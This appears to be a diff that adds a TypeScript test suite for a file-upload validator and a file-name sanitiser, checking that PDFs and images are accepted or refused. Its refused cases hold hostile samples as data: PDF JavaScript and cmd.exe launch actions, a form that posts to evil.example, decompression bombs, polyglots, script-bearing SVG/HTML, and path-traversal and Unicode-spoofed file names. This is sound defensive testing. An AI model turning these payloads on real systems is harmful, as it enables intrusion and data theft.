@@ -1,0 +1,247 @@
+import { crc32, deflateSync } from 'node:zlib';
+import { packedPdf, plainPdf } from '#tests/support/builders/pdf';
+import { safeFileName } from './file-name';
+import { inspectFile } from './inspect-file';
+
+const PDF = plainPdf();
+const MEGABYTE = 1024 * 1024;
+const twice = (content: Buffer) => deflateSync(deflateSync(content));
+const hexadecimal = (content: Buffer) => Buffer.from(`${deflateSync(content).toString('hex')}>`);
+const runs = (content: Buffer) =>
+  Buffer.concat([...Array.from({ length: content.length >> 7 }, () => Buffer.from([129, 0x20])), Buffer.from([128])]);
+const PNG = makePng(4, 3);
+const JPEG = makeJpeg(40, 30);
+
+describe('accepted files', () => {
+  it.each<[string, Buffer, string]>([
+    ['营业执照.pdf', PDF, 'application/pdf'],
+    ['现场照片.PNG', PNG, 'image/png'],
+    ['凭证.jpg', JPEG, 'image/jpeg'],
+    ['凭证.jpeg', JPEG, 'image/jpeg'],
+    ['隔行.png', makePng(9, 9, { interlaced: true }), 'image/png'],
+    ['打包.pdf', packedPdf(), 'application/pdf'],
+    ['打包未压缩.pdf', packedPdf({ objects: { filter: '', pack: (content) => content } }), 'application/pdf'],
+    ['长度有误.pdf', packedPdf({ objects: { length: 3 } }), 'application/pdf'],
+    ['自指.pdf', plainPdf({ trailer: '/Prev XREF' }), 'application/pdf'],
+    ['自指流.pdf', packedPdf({ table: { extra: '/Prev XREF' } }), 'application/pdf'],
+    ['声称很多.pdf', plainPdf({ size: 999_999_999_999 }), 'application/pdf'],
+  ])('[UP-05] %s', async (name, bytes, mediaType) => {
+    expect(await inspectFile(name, bytes)).toMatchObject({ ok: true, mediaType });
+  });
+});
+
+describe('refused files', () => {
+  const refused: [string, string, Buffer, RegExp][] = [
+    ['nothing in it', '空.pdf', Buffer.alloc(0), /空的/],
+    ['another extension', '宏.docm', PDF, /仅支持/],
+    ['no extension', '营业执照', PDF, /仅支持/],
+    ['a double extension', '发票.pdf.exe', PDF, /仅支持/],
+    ['an extension turned round by a mark', '发票\u202efdp.exe', PDF, /仅支持/],
+    [
+      'SVG with a script under a picture name',
+      '图.png',
+      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+      /不是有效的 PNG/,
+    ],
+    ['SVG under its own name', '图.svg', Buffer.from('<svg/>'), /仅支持/],
+    ['HTML under a PDF name', '页.pdf', Buffer.from('<!doctype html><script>alert(1)</script>'), /不是有效的 PDF/],
+    ['a program under a PDF name', '软件.pdf', Buffer.from('MZ\u0090\u0000'), /不是有效的 PDF/],
+    ['a picture under a PDF name', '照片.pdf', PNG, /内容是 PNG/],
+    ['a PDF under a picture name', '保函.png', PDF, /内容是 PDF/],
+    ['bytes before the header', '前.pdf', Buffer.concat([Buffer.from('x'), PDF]), /不是有效的 PDF/],
+    ['half a PDF', '半.pdf', PDF.subarray(0, PDF.length >> 1), /损坏|不完整/],
+    ['a header and no more', '头.pdf', Buffer.from('%PDF-1.7\n%%EOF\nstartxref'), /损坏|末尾/],
+    ['no cross-reference table', '乱.pdf', Buffer.from('%PDF-1.7\nstartxref\n99999\n%%EOF'), /损坏/],
+    ['PDF with a script', '脚本.pdf', plainPdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }), /脚本/],
+    ['PDF with a script under an escaped name', '脚本.pdf', plainPdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (1) >>' }), /脚本/],
+    ['PDF that starts a program', '启动.pdf', plainPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), /可执行/],
+    ['PDF with embedded files', '附件.pdf', plainPdf({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }), /嵌入文件/],
+    ['PDF that posts a form', '提交.pdf', plainPdf({ catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' }), /动作/],
+    [
+      'PDF with a password',
+      '加密.pdf',
+      plainPdf({
+        trailer:
+          '/Encrypt << /Filter /Standard /V 1 /R 2 /O (01234567890123456789012345678901) /U (01234567890123456789012345678901) /P -4 >> /ID [(a) (b)]',
+      }),
+      /加密/,
+    ],
+    ['PDF without pages', '无页.pdf', plainPdf({ pages: 0 }), /没有任何页面/],
+    ['PDF with HTML after its end', '尾.pdf', Buffer.concat([PDF, Buffer.from('<html><script>1</script>')]), /末尾|网页代码/],
+    [
+      'PDF with HTML at its beginning',
+      '首.pdf',
+      Buffer.from(PDF.toString('latin1').replace('%PDF-1.7\n', '%PDF-1.7\n%<html><body onload=x>\n'), 'latin1'),
+      /网页代码/,
+    ],
+    ['PDF that is a zip too', '压缩.pdf', withZipEnd(PDF), /压缩包|末尾/],
+    ['PDF with an object stream that inflates to 100 MB', '炸弹.pdf', packedPdf({ padding: 100 * MEGABYTE }), /异常庞大/],
+    [
+      'PDF with such a stream under escaped names',
+      '炸弹.pdf',
+      packedPdf({ padding: 100 * MEGABYTE, objects: { type: '/Type /Obj#53tm', filter: '/Filter /Fl#61teDecode' } }),
+      /异常庞大/,
+    ],
+    ['PDF with ten streams of 10 MB', '炸弹.pdf', packedPdf({ padding: 10 * MEGABYTE, streams: 10 }), /异常庞大/],
+    [
+      'PDF with a cross-reference stream that inflates to 100 MB',
+      '炸弹.pdf',
+      packedPdf({ table: { pack: (rows) => deflateSync(Buffer.concat([rows, Buffer.alloc(100 * MEGABYTE)])) } }),
+      /异常庞大/,
+    ],
+    [
+      'PDF with an object stream that is packed twice',
+      '炸弹.pdf',
+      packedPdf({ padding: 100 * MEGABYTE, objects: { filter: '/Filter [/FlateDecode/FlateDecode]', pack: twice } }),
+      /压缩方式异常/,
+    ],
+    [
+      'PDF with Flate below hexadecimal digits',
+      '炸弹.pdf',
+      packedPdf({ padding: 100 * MEGABYTE, objects: { filter: '/Filter [/ASCIIHexDecode /FlateDecode]', pack: hexadecimal } }),
+      /压缩方式异常/,
+    ],
+    [
+      'PDF with an object stream of repeated bytes',
+      '炸弹.pdf',
+      packedPdf({ padding: 100 * MEGABYTE, objects: { filter: '/Filter /RunLengthDecode', pack: runs } }),
+      /压缩方式异常/,
+    ],
+    [
+      'PDF with rows of a gigabyte',
+      '行.pdf',
+      packedPdf({ objects: { filter: '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1000000000 >>' } }),
+      /压缩方式异常/,
+    ],
+    [
+      'PDF with entries without bytes and without end',
+      '无尽.pdf',
+      packedPdf({ table: { extra: '/W [0 0 0] /Index [0 999999999999]' } }),
+      /压缩方式异常|损坏/,
+    ],
+    ['PDF with an object stream within itself', '自身.pdf', packedPdf({ recursive: true }), /损坏/],
+    ['PDF with a filter that stands elsewhere', '别处.pdf', packedPdf({ objects: { filter: '/Filter 9 0 R' } }), /损坏/],
+    [
+      'PDF with a script in a packed object',
+      '脚本.pdf',
+      packedPdf({ objects: { catalog: '/OpenAction << /S /JavaScript /JS (1) >>' } }),
+      /脚本/,
+    ],
+    ['PDF with 600000 objects', '多.pdf', plainPdf({ catalog: `/More [${'[] '.repeat(600_000)}]` }), /损坏/],
+    ['PDF with lists in lists', '深.pdf', plainPdf({ catalog: `/More ${'['.repeat(200_000)}${']'.repeat(200_000)}` }), /损坏/],
+    [
+      'PDF with dictionaries in dictionaries',
+      '深.pdf',
+      plainPdf({ catalog: `/More ${'<</A'.repeat(200_000)} 1 ${'>>'.repeat(200_000)}` }),
+      /损坏/,
+    ],
+    ['half a PNG', '半.png', PNG.subarray(0, PNG.length - 8), /损坏/],
+    ['PNG with a wrong checksum', '错.png', flip(PNG, 20), /损坏/],
+    ['PNG with too few pixels', '少.png', makePng(40, 30, { rows: 3 }), /损坏/],
+    ['PNG with too many pixels', '多.png', makePng(4, 3, { rows: 5000 }), /损坏/],
+    ['PNG that claims 50000 by 50000', '炸弹.png', makePng(50_000, 50_000, { rows: 1 }), /过大/],
+    ['PNG without size', '零.png', makePng(0, 3), /尺寸/],
+    ['PNG with HTML after its end', '尾.png', Buffer.concat([PNG, Buffer.from('<script>alert(1)</script>')]), /末尾/],
+    ['PNG with a zip after its end', '尾.png', withZipEnd(PNG), /压缩包/],
+    ['half a JPEG', '半.jpg', JPEG.subarray(0, JPEG.length - 6), /损坏/],
+    ['JPEG with HTML after its end', '尾.jpg', Buffer.concat([JPEG, Buffer.from('<script>alert(1)</script>')]), /末尾/],
+    ['JPEG that claims 65535 by 65535', '炸弹.jpg', makeJpeg(65_535, 65_535), /过大/],
+    ['JPEG of a header alone', '头.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xd9]), /损坏/],
+    ['JPEG with a segment that leads outside', '出界.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0xff, 0xff, 1, 2]), /损坏/],
+  ];
+
+  it.each(refused)('[UP-05] %s', async (_, name, bytes, message) => {
+    const inspection = await inspectFile(name, bytes);
+    expect(inspection).toEqual({ ok: false, message: expect.stringMatching(message) });
+  });
+
+  it('[UP-05] every refusal says in Chinese what to do', async () => {
+    for (const [, name, bytes] of refused) {
+      const inspection = await inspectFile(name, bytes);
+      expect(inspection.ok ? '' : inspection.message).toMatch(/请/);
+    }
+  });
+
+  it('[UP-05] garbage gets a verdict, never an exception', async () => {
+    for (let seed = 1; seed <= 60; seed += 1) {
+      const original = [PDF, PNG, JPEG][seed % 3] ?? PDF;
+      const bytes = flip(flip(original, (seed * 7919) % original.length), (seed * 104_729) % original.length);
+      const inspection = await inspectFile(['a.pdf', 'a.png', 'a.jpg'][seed % 3] ?? '', bytes);
+      expect(typeof inspection.ok).toBe('boolean');
+    }
+  });
+});
+
+describe('names', () => {
+  it.each([
+    ['../../etc/passwd.pdf', 'passwd.pdf'],
+    ['..\\..\\windows\\系统.PDF', '系统.pdf'],
+    ['C:\\fakepath\\保函.pdf', '保函.pdf'],
+    ['发票\u202efdp.exe', '发票fdp.exe'],
+    ['a\u0000b\r\n.pdf', 'ab.pdf'],
+    ['零\u200b宽\ufeff.pdf', '零宽.pdf'],
+    ['<img src=x onerror=1>.png', '_img src=x onerror=1_.png'],
+    ['CON.pdf', '_CON.pdf'],
+    ['...隐藏.pdf', '隐藏.pdf'],
+    ['.pdf', 'pdf'],
+    ['', '文件'],
+  ])('[UP-05] %j becomes %j', (raw, safe) => {
+    expect(safeFileName(raw).name).toBe(safe);
+  });
+
+  it('[UP-05] stay short and keep their extension', () => {
+    const { name } = safeFileName(`${'长'.repeat(500)}.pdf`);
+    expect([...name].length).toBeLessThanOrEqual(120);
+    expect(name.endsWith('.pdf')).toBe(true);
+  });
+});
+
+function makePng(width: number, height: number, { rows = height, interlaced = false } = {}): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header.set([8, 2, 0, 0, interlaced ? 1 : 0], 8);
+  const size = interlaced ? 9 * 9 * 3 + 19 : rows * (1 + width * 3);
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk('IHDR', header),
+    chunk('IDAT', deflateSync(Buffer.alloc(size))),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
+function chunk(type: string, data: Buffer): Buffer {
+  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+  const length = Buffer.alloc(4);
+  length.writeUInt32BE(data.length);
+  const sum = Buffer.alloc(4);
+  sum.writeUInt32BE(crc32(body));
+  return Buffer.concat([length, body, sum]);
+}
+
+function makeJpeg(width: number, height: number): Buffer {
+  const frame = [8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0];
+  return Buffer.concat([
+    Buffer.from([0xff, 0xd8]),
+    segment(0xe0, [0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]),
+    segment(0xdb, [0, ...Array.from({ length: 64 }, () => 1)]),
+    segment(0xc0, frame),
+    segment(0xc4, [0, 1, ...Array.from({ length: 15 }, () => 0), 0]),
+    segment(0xda, [1, 1, 0, 0, 63, 0]),
+    Buffer.from([0x12, 0x34, 0xff, 0x00, 0x56, 0xff, 0xd9]),
+  ]);
+}
+
+function segment(marker: number, data: readonly number[]): Buffer {
+  return Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255, ...data]);
+}
+
+function withZipEnd(content: Buffer): Buffer {
+  return Buffer.concat([content, Buffer.from('PK\u0005\u0006', 'latin1'), Buffer.alloc(18)]);
+}
+
+function flip(content: Buffer, at: number): Buffer {
+  const copy = Buffer.from(content);
+  copy[at] = (copy[at] ?? 0) ^ 0x41;
+  return copy;
+}
